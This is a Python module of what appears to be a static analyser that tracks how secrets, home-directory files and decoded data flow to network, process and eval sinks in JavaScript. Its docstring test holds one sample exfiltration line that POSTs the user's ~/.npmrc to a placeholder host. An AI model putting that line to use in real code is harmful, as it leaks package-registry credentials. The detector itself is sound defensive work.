"""Taint propagation through one JavaScript or TypeScript script (parsed, never run).

Sources: ``process.env`` (one variable or all of it), files read with ``fs`` (credential
stores, ``.env``, the home directory from ``os.homedir()``), keychains, cookies, host
identity, downloaded data and decoded (``atob``, ``Buffer.from(..., "base64")``) data.
Taint follows variables, destructuring, template literals, object literals, function
calls (``JSON.stringify``, ``Buffer.from(...).toString("base64")`` and the like keep their
arguments' labels), callbacks and promise chains, and functions of the same script
(parameter-to-sink summaries). Sinks: HTTP clients, beacons, sockets and DNS look-ups,
``child_process`` and ``eval``/``new Function``/``vm``. Which flow is which finding is
:mod:`.policy`'s call, as for Python. Flow-insensitive and deliberately simple.

>>> [f.rule_id for f in analyse_javascript("a.js", "fetch('https://x.invalid', "
...     "{method: 'POST', body: require('fs').readFileSync(os.homedir() + '/.npmrc')})").findings]
['js-flow.credential-to-network']
"""

from __future__ import annotations

import re

import tree_sitter

from ..sensitive import AUTH_FIELD, CREDENTIAL_PATH
from ..shell_js import scan_command
from .decoding import try_decode
from .engine import FlowEngine
from .js_names import (
    CREDENTIAL_CALLS,
    DECODERS,
    DECODING_ENCODINGS,
    IDENTITY_CALLS,
    READERS,
    js_category,
    module_name,
)
from .js_parse import parse_script
from .python_sources import AUTH_PREFIX
from .recorder import FlowReport
from .sources import env_variable, path_constant
from .taint import EMPTY, FunctionSummary, Labels, Scope, SinkSite, Taint, as_data

Node = tree_sitter.Node

JS_RULE_IDS = {
    "credential-to-network": "js-flow.credential-to-network",
    "identity-to-network": "js-flow.identity-beacon",
    "home-data-to-network": "js-flow.home-data-to-network",
    "remote-exec": "js-flow.remote-code-exec",
    "decoded-exec": "js-flow.decoded-exec",
    "secret-to-network-command": "js-flow.secret-to-network-command",
}
"""Rule ids of JavaScript flows (a named secret sent out and DNS exfiltration share the
language-neutral ids of :mod:`.policy`, so the destination-aware rule applies alike)."""

_PASSES = 3
"""Whole-script passes: two to learn functions and later assignments, one to report."""
_ENV_OBJECTS = frozenset({"process.env", "import.meta.env", "Bun.env"})
_FUNCTIONS = frozenset(
    {
        "function_declaration",
        "generator_function_declaration",
        "function_expression",
        "function",
        "generator_function",
        "arrow_function",
        "method_definition",
    }
)
_SKIPPED = frozenset(
    {
        "comment",
        "import_statement",
        "type_annotation",
        "type_arguments",
        "type_parameters",
        "type_alias_declaration",
        "interface_declaration",
        "enum_declaration",
        "regex",
        "number",
        "property_identifier",
        "statement_identifier",
        "hash_bang_line",
    }
)
_ESCAPE = re.compile(r"\\(?:x([0-9a-fA-F]{2})|u\{?([0-9a-fA-F]{4,5})\}?|(.))", re.S)
_SIMPLE_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "0": "\x00"}


def _unescape(raw: str) -> str:
    """The value of a string literal's body (``\\x63`` -> ``c``)."""

    def one(match: re.Match[str]) -> str:
        code = match.group(1) or match.group(2)
        if code:
            return chr(int(code, 16))
        return _SIMPLE_ESCAPES.get(match.group(3), match.group(3))

    return _ESCAPE.sub(one, raw) if "\\" in raw else raw


def _text(node: Node | None) -> str:
    return node.text.decode("utf-8", "replace") if node is not None and node.text else ""


def _line(node: Node) -> int:
    return node.start_point[0] + 1


def _string_value(node: Node | None) -> str | None:
    """The value of a plain string literal (or a template without substitutions)."""
    if node is None:
        return None
    if node.type == "string":
        return _unescape(_text(node)[1:-1])
    if node.type == "template_string" and not any(
        c.type == "template_substitution" for c in node.children
    ):
        return _unescape(_text(node)[1:-1])
    return None


def _chain(node: Node | None) -> str:
    """``process.env`` for ``process.env``, ``process["env"]`` and ``process[`env`]``."""
    if node is None:
        return "?"
    if node.type in ("identifier", "this"):
        return _text(node)
    if node.type == "member_expression":
        prop = _text(node.child_by_field_name("property"))
        return f"{_chain(node.child_by_field_name('object'))}.{prop}"
    if node.type == "subscript_expression":
        key = _string_value(node.child_by_field_name("index"))
        return f"{_chain(node.child_by_field_name('object'))}.{key}" if key is not None else "?"
    if node.type in ("parenthesized_expression", "non_null_expression") and node.named_children:
        return _chain(node.named_children[0])
    return "?"


def _arguments(node: Node) -> list[Node]:
    args = node.child_by_field_name("arguments")
    if args is None:
        return []
    if args.type == "template_string":  # tagged template: $`cmd ${x}`
        return [args]
    return [c for c in args.named_children if c.type != "comment"]


def _pattern_names(node: Node | None) -> list[str]:
    """Identifiers bound by a declaration target or parameter (destructuring included)."""
    if node is None:
        return []
    if node.type in ("identifier", "shorthand_property_identifier_pattern"):
        return [_text(node)]
    if node.type == "pair_pattern":
        return _pattern_names(node.child_by_field_name("value"))
    if node.type in ("assignment_pattern", "object_assignment_pattern"):
        return _pattern_names(node.child_by_field_name("left"))
    if node.type in ("required_parameter", "optional_parameter"):
        return _pattern_names(node.child_by_field_name("pattern"))
    names: list[str] = []
    for child in node.named_children:
        if child.type not in ("type_annotation", "comment"):
            names += _pattern_names(child)
    return names


def _used_as(key: str, value: Labels) -> Labels:
    """A secret in ``headers`` or an authentication field authenticates; it is not leaked."""
    if key.lower() == "headers":
        return frozenset(t for t in value if t.kind not in ("env-secret", "param"))
    if AUTH_FIELD.match(key):
        return frozenset(t for t in value if t.kind != "env-secret")
    return value


def _owner(scope: Scope, name: str) -> Scope:
    """The scope that declared ``name`` (an assignment updates it there), else ``scope``."""
    current: Scope | None = scope
    while current is not None:
        if name in current.labels:
            return current
        current = current.parent
    return scope


class JsFlow(FlowEngine):
    """Propagate taint through one script: call :meth:`run` once."""

    rule_ids = JS_RULE_IDS

    def __init__(self, path: str, text: str, depth: int = 0) -> None:
        super().__init__(path, text, depth)
        self.aliases: dict[str, str] = {}
        """Local name -> resolved module member (``exec`` -> ``child_process.exec``)."""
        self.instances: dict[str, str] = {}
        """Variable -> the call that created it (``ws`` -> ``WebSocket()``)."""
        self.summaries: dict[str, FunctionSummary] = {}
        self.attrs: dict[str, Labels] = {}

    # ---------------------------------------------------------------- driver
    def run(self) -> FlowReport:
        root = parse_script(self.text, self.path).root_node
        try:
            self._bindings(root)
            module = Scope()
            for number in range(_PASSES):
                self.recording = number == _PASSES - 1
                self._eval(root, module)
        except RecursionError:
            return FlowReport(self.findings, [], True, "analysis cut (deep nesting)")
        return FlowReport(self.findings, [], True, summaries=self.summaries)

    # ---------------------------------------------------------------- names
    def _bindings(self, root: Node) -> None:
        """Learn ``require``/``import`` aliases, then the objects that calls create."""
        declarators = []
        stack = [root]
        while stack:
            node = stack.pop()
            if node.type == "import_statement":
                self._import(node)
            elif node.type == "variable_declarator":
                declarators.append(node)
            stack.extend(node.named_children)
        declarators.sort(key=lambda n: n.start_byte)
        for node in declarators:
            target, module = (
                node.child_by_field_name("name"),
                self._required(node.child_by_field_name("value")),
            )
            if target is not None and module is not None:
                self._bind_module(target, module)
        for node in declarators:
            target, value = node.child_by_field_name("name"), node.child_by_field_name("value")
            while value is not None and value.type in (
                "await_expression",
                "parenthesized_expression",
            ):
                value = value.named_children[0] if value.named_children else None
            if target is None or target.type != "identifier" or value is None:
                continue
            if value.type not in ("call_expression", "new_expression") or self._required(value):
                continue
            callee = value.child_by_field_name("function") or value.child_by_field_name(
                "constructor"
            )
            name = self._dotted(callee)
            if name.rsplit(".", 1)[-1] == "promisify" and _arguments(value):
                self.aliases[_text(target)] = self._dotted(_arguments(value)[0])
            elif name != "?":
                self.instances[_text(target)] = f"{name}()"

    def _bind_module(self, target: Node, module: str) -> None:
        """``const fs = require("fs")`` or ``const { exec: run } = require("child_process")``."""
        if target.type == "identifier":
            self.aliases[_text(target)] = module
        for child in target.named_children if target.type == "object_pattern" else []:
            key = child.child_by_field_name("key") if child.type == "pair_pattern" else child
            for local in _pattern_names(child):
                self.aliases[local] = f"{module}.{_text(key)}"

    def _import(self, node: Node) -> None:
        source = _string_value(node.child_by_field_name("source"))
        if source is None:
            return
        module = module_name(source)
        for clause in (c for c in node.named_children if c.type == "import_clause"):
            for part in clause.named_children:
                if part.type == "identifier":
                    self.aliases[_text(part)] = module
                elif part.type == "namespace_import":
                    for ident in part.named_children:
                        self.aliases[_text(ident)] = module
                elif part.type == "named_imports":
                    for spec in part.named_children:
                        name = spec.child_by_field_name("name")
                        alias = spec.child_by_field_name("alias") or name
                        if name is not None and alias is not None:
                            self.aliases[_text(alias)] = f"{module}.{_text(name)}"

    def _required(self, node: Node | None) -> str | None:
        """``fs`` for ``require("node:fs")``, ``fs.promises`` for ``require("fs").promises``."""
        if node is None:
            return None
        if node.type == "member_expression":
            inner = self._required(node.child_by_field_name("object"))
            prop = _text(node.child_by_field_name("property"))
            return f"{inner}.{prop}" if inner else None
        if node.type == "call_expression" and _text(node.child_by_field_name("function")) in (
            "require",
            "import",
        ):
            args = _arguments(node)
            spec = _string_value(args[0]) if args else None
            return module_name(spec) if spec else None
        if node.type in ("await_expression", "parenthesized_expression") and node.named_children:
            return self._required(node.named_children[0])
        return None

    def _dotted(self, node: Node | None) -> str:
        """Resolved dotted name of a callee (``?`` when it is not a plain name)."""
        if node is None:
            return "?"
        if node.type == "import":
            return "import"
        if node.type in ("identifier", "this", "super"):
            name = _text(node)
            return self.instances.get(name) or self.aliases.get(name, name)
        if node.type == "member_expression":
            prop = _text(node.child_by_field_name("property"))
            return f"{self._dotted(node.child_by_field_name('object'))}.{prop}"
        if node.type == "subscript_expression":
            key = _string_value(node.child_by_field_name("index"))
            if key is not None:
                return f"{self._dotted(node.child_by_field_name('object'))}.{key}"
            return "?"
        if node.type in ("call_expression", "new_expression"):
            module = self._required(node)
            if module is not None:
                return module
            callee = node.child_by_field_name("function") or node.child_by_field_name("constructor")
            return f"{self._dotted(callee)}()"
        if node.type in ("parenthesized_expression", "non_null_expression", "await_expression"):
            return self._dotted(node.named_children[0]) if node.named_children else "?"
        return "?"

    # ---------------------------------------------------------------- walking
    def _eval(self, node: Node | None, scope: Scope) -> Labels:
        """Labels of an expression; statements are walked and give no labels."""
        if node is None or node.type in _SKIPPED:
            return EMPTY
        handler = _HANDLERS.get(node.type)
        if handler is not None:
            return handler(self, node, scope)
        if node.type in _FUNCTIONS:
            self._function(node, scope, self._function_name(node))
            return EMPTY
        labels: Labels = EMPTY
        for child in node.named_children:
            labels |= self._eval(child, scope)
        return labels

    def _string(self, node: Node, scope: Scope) -> Labels:
        value = _string_value(node)
        return path_constant(value, _line(node))[0] if value else EMPTY

    def _template(self, node: Node, scope: Scope) -> Labels:
        labels: Labels = EMPTY
        previous = ""
        for part in node.named_children:
            if part.type == "string_fragment":
                previous = _unescape(_text(part))
                labels |= path_constant(previous, _line(node))[0]
            elif part.type == "template_substitution":
                value = EMPTY
                for child in part.named_children:
                    value |= self._eval(child, scope)
                if AUTH_PREFIX.search(previous):
                    value = frozenset(t for t in value if t.kind != "env-secret")
                labels |= value
                previous = ""
        return labels

    def _binary(self, node: Node, scope: Scope) -> Labels:
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        labels = self._eval(left, scope)
        value = self._eval(right, scope)
        if _text(node.child_by_field_name("operator")) == "+" and AUTH_PREFIX.search(
            self._fold(left, scope) or ""
        ):
            value = frozenset(t for t in value if t.kind != "env-secret")
        return labels | value

    def _identifier(self, node: Node, scope: Scope) -> Labels:
        return scope.lookup(_text(node))

    def _member(self, node: Node, scope: Scope) -> Labels:
        obj = node.child_by_field_name("object")
        prop = _text(node.child_by_field_name("property"))
        whole = _chain(node)
        if _chain(obj) in _ENV_OBJECTS:
            return env_variable(prop, _line(node))[0]
        if whole in _ENV_OBJECTS:
            return frozenset({Taint("environ", "the whole environment", _line(node))})
        if self._dotted(node) in CREDENTIAL_CALLS:
            return frozenset({Taint("credential", whole[:40], _line(node))})
        if obj is not None and obj.type == "this":
            return self.attrs.get(f"this.{prop}", EMPTY)
        return self._eval(obj, scope)

    def _subscript(self, node: Node, scope: Scope) -> Labels:
        obj, index = node.child_by_field_name("object"), node.child_by_field_name("index")
        if _chain(obj) in _ENV_OBJECTS:
            self._eval(index, scope)
            return env_variable(_string_value(index), _line(node))[0]
        if _chain(node) in _ENV_OBJECTS:
            return frozenset({Taint("environ", "the whole environment", _line(node))})
        return self._eval(obj, scope) | self._eval(index, scope)

    def _object(self, node: Node, scope: Scope) -> Labels:
        labels: Labels = EMPTY
        for child in node.named_children:
            if child.type == "pair":
                key = _string_value(child.child_by_field_name("key")) or _text(
                    child.child_by_field_name("key")
                )
                value = self._eval(child.child_by_field_name("value"), scope)
                labels |= _used_as(key, value)
            elif child.type == "shorthand_property_identifier":
                labels |= _used_as(_text(child), scope.lookup(_text(child)))
            else:
                labels |= self._eval(child, scope)
        return labels

    def _declarator(self, node: Node, scope: Scope) -> Labels:
        target, value = node.child_by_field_name("name"), node.child_by_field_name("value")
        if value is None:
            return EMPTY
        if value.type in _FUNCTIONS and target is not None:
            self._function(value, scope, _text(target))
            return EMPTY
        if target is not None and target.type == "object_pattern" and _chain(value) in _ENV_OBJECTS:
            self._env_destructuring(target, scope)
            return EMPTY
        labels = self._eval(value, scope)
        self._bind(target, labels, self._fold(value, scope), scope)
        return labels

    def _env_destructuring(self, target: Node, scope: Scope) -> None:
        """``const { API_KEY, HOME: home } = process.env``: one variable per name."""
        for child in target.named_children:
            key = child.child_by_field_name("key") if child.type == "pair_pattern" else child
            if child.type == "rest_pattern":
                labels = frozenset({Taint("environ", "the whole environment", _line(child))})
            else:
                labels = env_variable(_text(key), _line(child))[0]
            for local in _pattern_names(child):
                scope.labels[local] = labels

    def _assignment(self, node: Node, scope: Scope) -> Labels:
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        if right is not None and right.type in _FUNCTIONS:
            self._function(right, scope, _text(left).removeprefix("this."))
            return EMPTY
        labels = self._eval(right, scope)
        merge = node.type == "augmented_assignment_expression"
        if merge:
            labels |= self._eval(left, scope)
        owner = scope
        if left is not None and left.type == "identifier":
            owner = _owner(scope, _text(left))
        self._bind(left, labels, None if merge else self._fold(right, scope), owner, merge)
        return labels

    def _bind(
        self,
        target: Node | None,
        labels: Labels,
        folded: str | None,
        scope: Scope,
        merge: bool = False,
    ) -> None:
        if target is None:
            return
        if target.type == "identifier":
            name = _text(target)
            scope.labels[name] = (scope.lookup(name) | labels) if merge else labels
            if folded is None:
                scope.folds.pop(name, None)
            else:
                scope.folds[name] = folded
        elif target.type == "member_expression":
            base = target.child_by_field_name("object")
            if base is not None and base.type == "this":
                key = f"this.{_text(target.child_by_field_name('property'))}"
                self.attrs[key] = self.attrs.get(key, EMPTY) | labels
                return
            while base is not None and base.type in ("member_expression", "subscript_expression"):
                base = base.child_by_field_name("object")
            if base is not None and base.type == "identifier":
                scope.labels[_text(base)] = scope.lookup(_text(base)) | labels
        elif target.type == "subscript_expression":
            base = target.child_by_field_name("object")
            if base is not None and base.type == "identifier":
                scope.labels[_text(base)] = scope.lookup(_text(base)) | labels
        else:
            for name in _pattern_names(target):
                scope.labels[name] = (scope.lookup(name) | labels) if merge else labels

    def _return(self, node: Node, scope: Scope) -> Labels:
        labels: Labels = EMPTY
        for child in node.named_children:
            labels |= self._eval(child, scope)
        if scope.summary is not None:
            scope.summary.returns |= labels
        return EMPTY

    @staticmethod
    def _function_name(node: Node) -> str | None:
        name = node.child_by_field_name("name")
        return _text(name) if name is not None else None

    def _function(
        self, node: Node, scope: Scope, name: str | None, bound: Labels = EMPTY
    ) -> FunctionSummary:
        """Walk a function body in its own scope; ``bound`` labels every parameter (a
        callback's parameters carry what the call hands it)."""
        params_node = node.child_by_field_name("parameters") or node.child_by_field_name(
            "parameter"
        )
        params: list[str] = []
        if params_node is not None:
            if params_node.type == "identifier":
                params = [_text(params_node)]
            else:
                for child in params_node.named_children:
                    params.append(",".join(_pattern_names(child)))
        summary = FunctionSummary(params)
        inner = Scope(parent=scope, summary=summary)
        for index, names in enumerate(params):
            for param in names.split(","):
                if param:
                    inner.labels[param] = bound | {Taint("param", str(index), _line(node))}
        body = node.child_by_field_name("body")
        if body is not None and body.type == "statement_block":
            self._eval(body, inner)
        elif body is not None:
            summary.returns |= self._eval(body, inner)
        if name:
            self.summaries[name] = summary
        return summary

    # ---------------------------------------------------------------- calls
    def _call(self, node: Node, scope: Scope) -> Labels:
        callee = node.child_by_field_name("function") or node.child_by_field_name("constructor")
        name = self._dotted(callee)
        if self._required(node) is not None or name == "require":
            return EMPTY
        line = _line(node)
        args = _arguments(node)
        if name == "import":  # import(url or `data:` source) runs what it loads
            if args:
                self._sink(SinkSite("code", "import", line), self._eval(args[0], scope), scope)
            return EMPTY
        if name in ("Deno.env.get", "process.env.get"):
            return env_variable(_string_value(args[0]) if args else None, line)[0]
        arg_labels = [EMPTY if a.type in _FUNCTIONS else self._eval(a, scope) for a in args]
        receiver = EMPTY
        if callee is not None and callee.type in ("member_expression", "subscript_expression"):
            receiver = self._eval(callee.child_by_field_name("object"), scope)
        elif callee is not None and callee.type != "identifier":
            receiver = self._eval(callee, scope)
        everything = receiver.union(*arg_labels)
        result = self._sources(node, name, args, everything, scope)
        category = js_category(name)
        if category == "code" and name in ("setTimeout", "setInterval"):
            category = None if not args or args[0].type in _FUNCTIONS else "code"
        if category == "network":
            self._sink(SinkSite("network", name, line), everything, scope)
            result = frozenset({Taint("remote", f"data fetched by {name}", line)})
        elif category == "process":
            result = self._process(node, name, args, arg_labels, scope, everything)
        elif category == "code":
            code = everything if name.endswith("Function") else (arg_labels[0] if args else EMPTY)
            self._sink(SinkSite("code", name, line), code, scope)
        summary = self._summary_of(callee)
        if summary is not None:
            result = self._apply(summary, name, node, arg_labels, scope)
        for arg in args:
            if arg.type in _FUNCTIONS:
                self._function(arg, scope, None, result)
        return result

    def _sources(
        self, node: Node, name: str, args: list[Node], everything: Labels, scope: Scope
    ) -> Labels:
        """What a call returns when it reads a source; otherwise its inputs' labels."""
        line = _line(node)
        if name == "os.homedir":
            return everything | {Taint("home-path", "home directory", line)}
        if name in IDENTITY_CALLS:
            return frozenset({Taint("identity", f"{name}()", line)})
        if name in CREDENTIAL_CALLS:
            return frozenset({Taint("credential", name, line)})
        if name in READERS:
            return as_data(everything)
        encoding = self._fold(args[1], scope) if name == "Buffer.from" and len(args) > 1 else None
        if name in DECODERS or encoding in DECODING_ENCODINGS:
            self._remember_payload(node, name, args, encoding, scope)
            return everything | {Taint("decoded", f"{name}() output", line)}
        return everything

    def _remember_payload(
        self, node: Node, name: str, args: list[Node], encoding: str | None, scope: Scope
    ) -> None:
        if name == "String.fromCharCode":
            decoded = self._fold(node, scope)
        else:
            raw = self._fold(args[0], scope) if args else None
            kind = "unhexlify" if encoding == "hex" else "b64decode"
            decoded = try_decode(kind, raw) if raw and "\x00" not in raw else None
        if decoded and "\x00" not in decoded:
            self.payloads[_line(node)] = decoded

    def _process(
        self,
        node: Node,
        name: str,
        args: list[Node],
        arg_labels: list[Labels],
        scope: Scope,
        everything: Labels,
    ) -> Labels:
        """A process call: its command (and argument list) is the sink, not its options."""
        line = _line(node)
        command = self._fold(args[0], scope) or "\x00" if args else ""
        labels = arg_labels[0] if args else EMPTY
        if len(args) > 1 and args[1].type == "array":
            command = f"{command} {self._fold(args[1], scope) or chr(0)}"
            labels |= arg_labels[1]
        self._sink(SinkSite("process", name, line, command), labels, scope)
        shell_line = command.replace(" -c ", " ", 1)  # spawn("sh", ["-c", script])
        seen_on_line = set(scan_command(self.lines[line - 1] if line <= len(self.lines) else ""))
        for hit in scan_command(shell_line.replace("\x00", " X ")):
            if hit not in seen_on_line:  # the line patterns report what the line shows
                self._finding(hit.aitech, hit.severity, line, f"command {hit.description}")
        return as_data(everything) if CREDENTIAL_PATH.search(command) else everything

    def _summary_of(self, callee: Node | None) -> FunctionSummary | None:
        if callee is None:
            return None
        if callee.type == "identifier":
            return self.summaries.get(_text(callee))
        if callee.type == "member_expression":
            obj = callee.child_by_field_name("object")
            if obj is not None and obj.type == "this":
                return self.summaries.get(_text(callee.child_by_field_name("property")))
        return None

    def _apply(
        self,
        summary: FunctionSummary,
        name: str,
        node: Node,
        arg_labels: list[Labels],
        scope: Scope,
    ) -> Labels:
        return self._call_summary(summary, dict(enumerate(arg_labels)), name, _line(node), scope)

    def _payload_findings(self, payload: str, site: SinkSite) -> list[tuple[str, str, str]]:
        if site.category == "code":
            inner = JsFlow(self.path, payload, self.depth + 1).run().findings
            return [(f.aitech, f.severity, f.description) for f in inner]
        return [(h.aitech, h.severity, h.description) for h in scan_command(payload)]

    # ---------------------------------------------------------------- folding
    def _fold(self, node: Node | None, scope: Scope) -> str | None:
        """Best-effort constant text of an expression; unknown parts become NUL."""
        if node is None:
            return None
        kind = node.type
        if kind == "string":
            return _string_value(node)
        if kind == "template_string":
            parts = []
            for part in node.named_children:
                if part.type == "string_fragment":
                    parts.append(_unescape(_text(part)))
                elif part.type == "template_substitution" and part.named_children:
                    parts.append(self._fold(part.named_children[0], scope) or "\x00")
            return "".join(parts)
        if kind == "identifier":
            return scope.fold(_text(node))
        if kind == "binary_expression" and _text(node.child_by_field_name("operator")) == "+":
            left = self._fold(node.child_by_field_name("left"), scope) or "\x00"
            return left + (self._fold(node.child_by_field_name("right"), scope) or "\x00")
        if kind in ("parenthesized_expression", "as_expression", "non_null_expression"):
            return self._fold(node.named_children[0], scope) if node.named_children else None
        if kind == "array":
            return " ".join(self._fold(e, scope) or "\x00" for e in node.named_children)
        if kind == "number":
            return _text(node)
        if kind == "member_expression" and _text(node) in (
            "process.env.HOME",
            "process.env.USERPROFILE",
        ):
            return "~"
        if kind == "call_expression":
            return self._fold_call(node, scope)
        return None

    def _fold_call(self, node: Node, scope: Scope) -> str | None:
        callee = node.child_by_field_name("function")
        name = self._dotted(callee)
        args = _arguments(node)
        folded = [self._fold(a, scope) or "\x00" for a in args]
        if name == "os.homedir":
            return "~"
        if name == "os.tmpdir":
            return "/tmp/\x00"
        if name in ("path.join", "path.resolve", "path.posix.join", "path.normalize"):
            return "/".join(a.rstrip("/") for a in folded) if folded else None
        if name == "String.fromCharCode":
            codes = [a for a in folded if a.isdigit()]
            return (
                "".join(chr(int(c) % 0x110000) for c in codes)
                if len(codes) == len(folded)
                else None
            )
        if name == "atob" and folded and "\x00" not in folded[0]:
            return try_decode("b64decode", folded[0])
        if callee is None or callee.type != "member_expression":
            return None
        method = _text(callee.child_by_field_name("property"))
        receiver = callee.child_by_field_name("object")
        if method == "join" and receiver is not None and receiver.type == "array":
            separator = folded[0] if folded else ","
            return separator.join(self._fold(e, scope) or "\x00" for e in receiver.named_children)
        if (
            method == "toString"
            and receiver is not None
            and receiver.type == "call_expression"
            and self._dotted(receiver.child_by_field_name("function")) == "Buffer.from"
        ):
            inner = _arguments(receiver)
            raw = self._fold(inner[0], scope) if inner else None
            encoding = self._fold(inner[1], scope) if len(inner) > 1 else None
            if raw and "\x00" not in raw and encoding in DECODING_ENCODINGS:
                return try_decode("unhexlify" if encoding == "hex" else "b64decode", raw)
        if method in ("trim", "toString", "replace", "concat") and receiver is not None:
            base = self._fold(receiver, scope)
            return base + "".join(folded) if method == "concat" and base is not None else base
        return None


_HANDLERS = {
    "string": JsFlow._string,
    "template_string": JsFlow._template,
    "identifier": JsFlow._identifier,
    "binary_expression": JsFlow._binary,
    "member_expression": JsFlow._member,
    "subscript_expression": JsFlow._subscript,
    "object": JsFlow._object,
    "variable_declarator": JsFlow._declarator,
    "assignment_expression": JsFlow._assignment,
    "augmented_assignment_expression": JsFlow._assignment,
    "return_statement": JsFlow._return,
    "call_expression": JsFlow._call,
    "new_expression": JsFlow._call,
}


def analyse_javascript(path: str, text: str) -> FlowReport:
    """Source-to-sink findings of one JavaScript/TypeScript script or code fence."""
    return JsFlow(path, text).run()
